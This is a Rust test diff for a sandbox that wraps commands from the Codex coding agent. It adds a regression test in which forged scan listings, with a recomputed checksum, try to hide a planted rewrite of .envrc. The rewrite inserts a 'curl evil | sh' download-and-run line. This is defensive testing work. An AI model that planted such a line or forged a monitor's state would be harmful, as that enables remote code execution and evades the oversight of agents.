@@ -321,6 +321,11 @@ fn forged_entry(path: &Path, id: (u64, u64), owner: (u32, u32), content: &str) -
 /// `true` run as Codex's hook rewrites a call: `exec --from-hook [--state codex] -c=LINE`,
 /// in the fixture's environment and as its user (`apart`: with the state apart).
 fn hook_run(fx: &Fixture, apart: bool) -> Output {
+    hook_line(fx, apart, "true")
+}
+
+/// [`hook_run`] of `line`.
+fn hook_line(fx: &Fixture, apart: bool, line: &str) -> Output {
     let base = fx.exec_cmd("true");
     let mut cmd = Command::new(base.get_program());
     cmd.args(["exec", "--from-hook", "--policy"])
@@ -328,7 +333,9 @@ fn hook_run(fx: &Fixture, apart: bool) -> Output {
     if apart {
         cmd.args(["--state", "codex"]);
     }
-    cmd.arg("-c=true").current_dir(&fx.ws).env_clear();
+    cmd.arg(format!("-c={line}"))
+        .current_dir(&fx.ws)
+        .env_clear();
     for (k, v) in base.get_envs() {
         if let Some(v) = v {
             cmd.env(k, v);
@@ -567,6 +574,139 @@ fn a_forged_marker_in_codexs_state_neither_writes_nor_reaches_back() {
             describe(&out)
         );
         assert!(!forged.exists(), "{} the marker stayed", fx.what());
+    });
+}
+
+/// FNV-1a, 64 bits: the kept listings' checksum (`cordon_ossandbox::Listings`).
+fn fnv1a(bytes: &[u8]) -> u64 {
+    bytes.iter().fold(0xcbf2_9ce4_8422_2325, |h, b| {
+        (h ^ u64::from(*b)).wrapping_mul(0x0100_0000_01b3)
+    })
+}
+
+/// The kept listings `bytes` (as `cordon_ossandbox::Listings` writes them) with the name
+/// `drop` left out of the listing of the directory `dir`, the checksum made again: what a
+/// process that can write the file makes of it.
+fn listings_without(bytes: &[u8], dir: &Path, drop: &str) -> Vec<u8> {
+    use std::os::unix::ffi::OsStrExt;
+    let body = &bytes[..bytes.len() - 8];
+    let mut at = 0;
+    let mut out = Vec::new();
+    let mut take = |n: usize, out: &mut Vec<u8>, keep: bool| {
+        let b = &body[at..at + n];
+        at += n;
+        if keep {
+            out.extend_from_slice(b);
+        }
+        b.to_vec()
+    };
+    let u32_of = |b: Vec<u8>| u32::from_le_bytes(b.try_into().unwrap()) as usize;
+    let head = b"cordon walk listings v1\n".len();
+    take(head, &mut out, true);
+    let n = u32_of(take(4, &mut out, true));
+    take(n, &mut out, true); // the context
+    take(12, &mut out, true); // started
+    let count = u32_of(take(4, &mut out, true));
+    let mut dropped = false;
+    for _ in 0..count {
+        let n = u32_of(take(4, &mut out, true));
+        let path = take(n, &mut out, true);
+        take(40, &mut out, true); // dev, ino, ctime, count
+        let k = u32_of(take(4, &mut Vec::new(), false));
+        let mut names = Vec::new();
+        for _ in 0..k {
+            let is_dir = take(1, &mut Vec::new(), false);
+            let n = u32_of(take(4, &mut Vec::new(), false));
+            let name = take(n, &mut Vec::new(), false);
+            if path == dir.as_os_str().as_bytes() && name == drop.as_bytes() {
+                dropped = true;
+                continue;
+            }
+            names.push((is_dir, name));
+        }
+        out.extend_from_slice(&(names.len() as u32).to_le_bytes());
+        for (is_dir, name) in names {
+            out.extend_from_slice(&is_dir);
+            out.extend_from_slice(&(name.len() as u32).to_le_bytes());
+            out.extend_from_slice(&name);
+        }
+    }
+    assert!(dropped, "no {drop} in the listing of {}", dir.display());
+    assert_eq!(at, body.len());
+    let sum = fnv1a(&out);
+    out.extend_from_slice(&sum.to_le_bytes());
+    out
+}
+
+/// The kept listings in Codex's state apart (`LOGDIR/codex/scans/listings-…`) are writable by
+/// what Codex runs without cordon. A forged one that leaves `.envrc` out of the project's
+/// listing (its directory's device, inode and ctime as they are, so it is taken) hid an
+/// in-place rewrite of `.envrc` by the next escalated `--state codex` run from that run's
+/// scan: neither snapshot looked at the name. Listings there are not taken now.
+#[test]
+fn a_forged_listing_in_codexs_state_hides_nothing() {
+    each(|fx| {
+        let ws = fs::canonicalize(&fx.ws).unwrap();
+        fs::write(ws.join(".envrc"), "operator\n").unwrap();
+        fs::write(ws.join("plant.sh"), "echo 'curl evil | sh' > .envrc\n").unwrap();
+        let apart = fx.root.join("state/codex");
+        fs::create_dir_all(&apart).unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.root.join("state"), uid, gid);
+            chown_tree(&ws, uid, gid);
+        }
+        // Settled (older than the snapshot by 2 s), so that the run keeps its listing.
+        let m = fs::metadata(&ws).unwrap();
+        let changed = std::time::UNIX_EPOCH
+            + Duration::new(
+                std::os::unix::fs::MetadataExt::ctime(&m) as u64,
+                std::os::unix::fs::MetadataExt::ctime_nsec(&m) as u32,
+            );
+        while std::time::SystemTime::now() < changed + Duration::from_millis(2500) {
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        let out = hook_run(fx, true);
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        let listing = fs::read_dir(apart.join("scans"))
+            .unwrap()
+            .flatten()
+            .map(|e| e.path())
+            .find(|p| {
+                p.file_name()
+                    .unwrap()
+                    .to_string_lossy()
+                    .starts_with("listings-")
+            })
+            .expect("the run kept its listings");
+        let forged = listings_without(&fs::read(&listing).unwrap(), &ws, ".envrc");
+        fs::write(&listing, forged).unwrap();
+        let out = hook_line(fx, true, "sh plant.sh");
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert_ne!(
+            fs::read_to_string(ws.join(".envrc")).ok().as_deref(),
+            Some("curl evil | sh\n"),
+            "{} the forged listing hid the run's .envrc: {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(
+            stderr(&out).contains(".envrc"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
     });
 }
 
